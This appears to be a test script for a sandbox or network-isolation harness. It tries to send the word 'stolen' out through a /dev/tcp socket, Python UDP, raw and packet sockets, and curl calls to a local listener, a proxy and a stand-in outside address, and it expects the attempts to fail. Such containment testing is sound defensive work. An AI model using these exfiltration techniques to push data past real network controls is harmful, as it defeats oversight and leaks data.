# expect: ended | done
exec 2>/dev/null
exec 3<> "/dev/tcp/127.0.0.1/$LISTENER" && echo "connected" && echo stolen >&3
python3 - "$LISTENER" <<'P'
import socket, sys
for family, kind, proto in ((socket.AF_INET, socket.SOCK_DGRAM, 0), (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3)):
    try:
        s = socket.socket(family, kind, proto)
        s.sendto(b"stolen", ("127.0.0.1", int(sys.argv[1])))
        print("sent", kind)
    except OSError:
        pass
P
curl -s -m 5 "http://127.0.0.1:$LISTENER/"
curl -s -m 5 -p -x "$http_proxy" "http://localhost:$LISTENER/"
curl -s -m 5 --noproxy '*' http://192.0.2.1/ && echo "elsewhere"
echo done
